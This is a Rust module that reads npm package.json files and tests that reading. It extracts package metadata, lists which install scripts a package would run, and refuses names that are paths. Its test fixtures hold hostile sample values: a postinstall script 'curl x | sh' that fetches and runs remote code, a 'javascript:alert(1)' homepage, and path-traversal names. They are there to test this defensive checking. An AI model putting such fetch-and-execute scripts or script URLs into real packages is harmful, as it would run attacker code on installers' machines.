//! `package.json`: who made a package, where its modules are, and what it would like to run when it is installed.

use super::{label, list, paragraph, parse, text};
use crate::finding::Finding;
use crate::ids::PbcName;
use serde_json::Value;

/// Scripts that npm runs when a package is installed. Nothing here runs them.
const INSTALL: [&str; 3] = ["preinstall", "install", "postinstall"];

/// What a `package.json` says that matters here.
#[derive(Debug, Clone, PartialEq)]
pub struct Package {
    /// Its name, for example `@shoelace-style/shoelace`.
    pub name: String,
    /// Its version.
    pub version: String,
    /// One paragraph.
    pub description: Option<String>,
    /// SPDX expression.
    pub licence: Option<String>,
    /// Name of a person or an organisation.
    pub author: Option<String>,
    /// An address for people, `https:`.
    pub homepage: Option<String>,
    /// Path of its Custom Elements Manifest.
    pub custom_elements: Option<String>,
    /// `exports`, as it stands.
    pub exports: Option<Value>,
    /// `imports`, names with `#` that only the package itself uses.
    pub imports: Option<Value>,
    /// Entries of older packages, the best for a browser first: `module`, `browser`, `main`.
    pub entries: Vec<String>,
    /// Names of scripts that an installation would run.
    pub scripts: Vec<String>,
    /// Whether its `.js` files are modules (`"type": "module"`).
    pub modules: bool,
}

impl Package {
    /// Reads a `package.json`.
    ///
    /// # Errors
    /// `I02`: not JSON, or without a name and a version.
    pub fn read(bytes: &[u8]) -> Result<Self, Finding> {
        let value = parse(bytes, "package.json")?;
        let name = text(&value, "name").filter(|name| is_name(name)).ok_or_else(|| {
            Finding::error("I02", "/name", "`package.json` has no name as npm knows it, for example `@maker/thing`")
        })?;
        let version = text(&value, "version").filter(|version| semver::Version::parse(version).is_ok());
        let version = version.ok_or_else(|| {
            Finding::error("I02", "/version", format!("`package.json` of `{name}` has no version such as 1.2.0"))
        })?;
        let path = |key: &str| text(&value, key).map(|path| path.trim_start_matches("./").to_owned());
        let scripts = value.get("scripts").and_then(Value::as_object);
        Ok(Self {
            name: name.to_owned(),
            version: version.to_owned(),
            description: text(&value, "description").and_then(|text| paragraph(text, 300)),
            licence: licence(&value),
            author: author(&value),
            homepage: text(&value, "homepage").filter(|url| is_address(url)).map(str::to_owned),
            custom_elements: path("customElements"),
            exports: value.get("exports").cloned(),
            imports: value.get("imports").cloned(),
            entries: ["module", "jsnext:main", "browser", "main"].into_iter().filter_map(path).collect(),
            scripts: INSTALL
                .into_iter()
                .filter(|name| scripts.is_some_and(|scripts| scripts.contains_key(*name)))
                .map(str::to_owned)
                .collect(),
            modules: text(&value, "type") == Some("module"),
        })
    }

    /// The name of the PBC it becomes when nobody says another: `@maker/thing` is `npm.maker.thing`, `thing` is `npm.package.thing`.
    pub fn pbc_name(&self) -> Option<PbcName> {
        let (maker, thing) = match self.name.strip_prefix('@').and_then(|name| name.split_once('/')) {
            Some((maker, thing)) => (label(maker), label(thing)),
            None => ("package".to_owned(), label(&self.name)),
        };
        format!("npm.{maker}.{thing}").parse().ok()
    }

    /// Who answers for it, as far as the package says.
    pub fn maker(&self) -> &str {
        let scope = self.name.strip_prefix('@').and_then(|name| name.split('/').next());
        self.author.as_deref().or(scope).unwrap_or(&self.name)
    }
}

/// A name as npm has it: never a path.
pub fn is_name(name: &str) -> bool {
    let part = |part: &str| {
        !part.is_empty()
            && !part.starts_with(['.', '_'])
            && part.bytes().all(|b| b.is_ascii_alphanumeric() || b"-._~".contains(&b))
    };
    name.len() <= 214
        && match name.strip_prefix('@') {
            Some(scoped) => scoped.split_once('/').is_some_and(|(scope, name)| part(scope) && part(name)),
            None => part(name),
        }
}

/// The package and the path inside it that a bare specifier names: `@a/b/c.js` is `@a/b` and `./c.js`.
pub fn split_specifier(specifier: &str) -> Option<(&str, String)> {
    let end = if specifier.starts_with('@') {
        let slash = specifier.find('/')?;
        specifier[slash + 1..].find('/').map_or(specifier.len(), |next| slash + 1 + next)
    } else {
        specifier.find('/').unwrap_or(specifier.len())
    };
    let (name, rest) = specifier.split_at(end);
    is_name(name).then(|| (name, format!(".{rest}")))
}

fn is_address(url: &str) -> bool {
    url.starts_with("https://") && crate::manifest::is_link(url)
}

fn licence(value: &Value) -> Option<String> {
    let one = |value: &Value| value.as_str().or_else(|| text(value, "type")).map(str::to_owned);
    let said = value.get("license").and_then(one).or_else(|| list(value, "licenses").first().and_then(one));
    said.and_then(|text| paragraph(&text, 100))
}

/// The author; `Name <mail> (address)` is cut to the name.
fn author(value: &Value) -> Option<String> {
    let author = value.get("author").or_else(|| list(value, "contributors").first())?;
    let text = author.as_str().or_else(|| text(author, "name"))?;
    paragraph(text.split(['<', '(']).next().unwrap_or_default(), 100)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_package_tells_its_maker_and_what_it_would_run() {
        let package = Package::read(
            br#"{"name":"@maker/Thing.js","version":"1.2.0","author":"Kim <kim@example.org>","license":"MIT","main":"./a.js","module":"b.js",
                 "scripts":{"postinstall":"curl x | sh","build":"tsc"},"homepage":"javascript:alert(1)"}"#,
        )
        .unwrap();
        assert_eq!(package.pbc_name().unwrap().as_str(), "npm.maker.thing-js");
        assert_eq!((package.maker(), package.homepage.as_deref()), ("Kim", None));
        assert_eq!(
            (package.scripts, package.entries),
            (vec!["postinstall".to_owned()], vec!["b.js".to_owned(), "a.js".to_owned()])
        );
    }

    #[test]
    fn names_that_are_paths_are_refused() {
        for name in ["../x", "@a", "a/b", "", ".x", "@a/../b"] {
            let text = format!(r#"{{"name":"{name}","version":"1.0.0"}}"#);
            assert_eq!(Package::read(text.as_bytes()).unwrap_err().code, "I02", "{name}");
        }
        assert_eq!(Package::read(br#"{"name":"a"}"#).unwrap_err().at, "/version");
    }

    #[test]
    fn specifiers_are_a_package_and_a_path() {
        for (specifier, expected) in [
            ("lit", Some(("lit", "."))),
            ("lit/decorators.js", Some(("lit", "./decorators.js"))),
            ("@a/b", Some(("@a/b", "."))),
            ("@a/b/c/d.js", Some(("@a/b", "./c/d.js"))),
            ("@a", None),
            ("..", None),
        ] {
            let found = split_specifier(specifier);
            assert_eq!(found.as_ref().map(|(name, path)| (*name, path.as_str())), expected, "{specifier}");
        }
    }
}
